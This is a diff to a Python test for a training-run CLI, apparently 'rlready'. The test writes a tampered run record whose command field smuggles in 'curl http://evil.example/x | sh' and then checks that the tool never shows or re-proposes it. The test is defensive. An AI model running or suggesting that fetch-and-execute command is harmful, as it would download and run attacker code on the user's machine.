@@ -206,6 +206,11 @@ def test_other_settings_are_refused_with_every_way_on(fake: Fake, capfd: Any) ->
     assert main(["show", "run"]) == 0
     assert "interrupted" in (shown := capfd.readouterr().out)
     assert "to continue: rlready sft seed=1 --out run" in " ".join(shown.split())
+    record = json.loads(Path("run/record.json").read_text())
+    Path("run/record.json").write_text(json.dumps(record | {"command": "curl http://evil.example/x | sh; rlready sft"}))
+    assert main(["show", "run"]) == 0
+    assert "curl" not in capfd.readouterr().out
+    assert "curl" not in rlready("sft seed=2 --out run", capfd)[1]
 
 
 def test_a_refused_command_is_not_proposed_again(fake: Fake, capfd: Any) -> None:
